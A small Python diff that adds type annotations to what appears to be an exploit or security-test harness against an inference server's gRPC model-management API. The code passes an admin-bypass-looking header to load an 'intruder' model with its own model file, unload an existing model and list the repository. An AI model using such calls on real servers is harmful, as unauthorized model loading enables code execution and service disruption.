@@ -2,6 +2,7 @@
 
 import base64
 import json
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -111,7 +112,7 @@ def groups_over_grpc(victim: Victim) -> str:
         {"triton-grpc-protocol-kimi-admin": ""},
     )
     client = victim.grpc()
-    calls = (
+    calls: tuple[Callable[[dict[str, str]], Any], ...] = (
         lambda h: client.load_model("intruder", headers=h, config=json.dumps(_CONFIG), files={"file:1/model.py": b""}),
         lambda h: client.unload_model("spec_ensemble", headers=h),
         lambda h: client.get_model_repository_index(headers=h),
